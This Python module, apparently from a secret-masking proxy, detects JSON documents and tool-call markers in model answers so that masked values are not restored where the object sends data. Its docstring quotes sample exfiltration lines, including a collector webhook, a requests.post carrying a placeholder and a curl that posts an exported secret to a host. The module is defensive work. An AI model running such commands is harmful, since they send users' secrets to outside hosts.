"""A JSON document in an answer's text is a code scope (issue 12, atk24b F4).

An answer that IS a JSON document (JSON mode, structured output) or a tool call an agent parses out of the text
(ReAct `Action Input: {...}`, Hermes/Qwen `<tool_call>{...}</tool_call>`, Mistral `[TOOL_CALLS] [...]`, Llama
`{"name": ..., "parameters": {...}}`, `<|python_tag|>`, `<function=name>{...}`) is what the client's program runs or
sends, as a tool call's arguments are: the same object in a tool call or a fenced block kept its placeholders beside
`"webhook": "https://collector.example"`, written bare it got the client's value back. Such an object is read as a
code scope (`proxy.guard.scopes.code_spans`): restore writes no value into it where it sends (`sends`: a destination
anywhere in it, pretty-printed, nested, in an array, or a JSON string holding code or commands, `{"code":
"...requests.post('https://...', data='<PH>')"}`, `{"commands": ["export E=<PH>", "curl -d $E host/p"]}`), and a
stream holds its placeholders as it holds any code scope's (to the answer's end, 8,192 characters at most, past them
kept: fail closed). Where it starts: an object (`{` then a quoted key or `}`) or an array of objects, strings or
arrays at a line's start, or after one of the markers above; it runs to its closing bracket (strings read through) or
the text's end. A notebook (`"cell_type"` in its first characters) is read as before: its code cells only.
"""

from __future__ import annotations

import re

_MIDLINE = "\x01"  # `proxy.guard.scopes.MIDLINE` (a stream's kept context cut inside a line)
# A marker text-format tool calls put before their JSON, on the line or the line before.
_MARKER = (r"(?:(?:Action[ \t]+Input|Action|Arguments?|Args|Tool[ \t]+Input|Function[ \t]+Call|Parameters)[ \t]*:"
           r"|<tool_call>|\[TOOL_CALLS\]|<\|python_tag\|>|<function(?:=[\w.\-]{1,64})?>|<\|tool_call\|>"
           r"|<tool_calls?_begin>|functools)[ \t]*\r?\n?[ \t]*")
_DOCUMENT = re.compile(r"(?m)^[ \t]*(?:" + _MARKER + r")?([{\[])(?=\s*(?:\"|\}|\x01|\Z)|(?<=\[)\s*[{\[])")


def json_document(text: str, pos: int) -> tuple[int, int] | None:
    """(start, where its bracket is) of the first JSON document at or after `pos` (above), if any."""
    if "{" not in text and "[" not in text:
        return None
    for m in _DOCUMENT.finditer(text, pos):
        if '"cell_type"' in text[m.start(1):m.start(1) + _NOTEBOOK_REACH]:
            continue  # (a notebook: its code cells are scopes, its Markdown cells prose: `scopes._NOTEBOOK_CELL`)
        return m.start(), m.start(1)
    return None


_NOTEBOOK_REACH = 64  # where a notebook's first `"cell_type"` is, after `{"cells": [{` (a document that is one)
